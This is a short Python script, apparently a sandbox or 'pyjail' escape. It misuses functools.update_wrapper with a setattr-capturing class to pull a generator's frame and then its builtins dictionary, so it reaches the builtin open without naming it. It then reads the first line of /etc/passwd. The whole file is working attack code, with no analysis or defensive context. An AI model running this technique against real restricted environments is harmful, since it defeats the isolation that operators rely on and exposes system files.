import functools
got = []
class Trap:
    def __setattr__(self, name, value):
        if name != '__wrapped__': got.append(value)
g = (x for x in [1])
functools.update_wrapper(Trap(), g, ('gi_frame',), ())
functools.update_wrapper(Trap(), got[0], ('f_builtins',), ())
print(got[1]['open']('/etc/passwd').readline())
